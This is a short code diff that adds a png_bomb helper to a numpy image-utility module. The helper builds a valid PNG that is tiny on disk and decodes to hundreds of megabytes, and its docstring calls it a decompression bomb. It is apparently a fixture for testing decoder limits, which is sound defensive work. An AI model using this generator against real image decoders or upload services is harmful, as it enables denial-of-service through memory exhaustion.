@@ -30,3 +30,23 @@ def center_of_mass(image: np.ndarray) -> tuple[float, float]:
   ys, xs = np.indices(image.shape)
   total = image.sum()
   return (ys * image).sum() / total, (xs * image).sum() / total
+
+
+def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
+  """A valid grayscale PNG of width x height black pixels: a few hundred
+  KiB that decode to width * height bytes (a decompression bomb)."""
+  import struct
+  import zlib
+
+  def chunk(kind: bytes, data: bytes) -> bytes:
+    return (struct.pack('>I', len(data)) + kind + data
+            + struct.pack('>I', zlib.crc32(kind + data)))
+  rows = 64
+  block = b'\x00' * ((width + 1) * rows)  # Filter byte 0, then the pixels.
+  packer = zlib.compressobj(9)
+  data = b''.join(packer.compress(block) for _ in range(height // rows))
+  data += packer.compress(b'\x00' * ((width + 1) * (height % rows)))
+  data += packer.flush()
+  ihdr = struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0)
+  return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) + chunk(b'IDAT', data)
+          + chunk(b'IEND', b''))
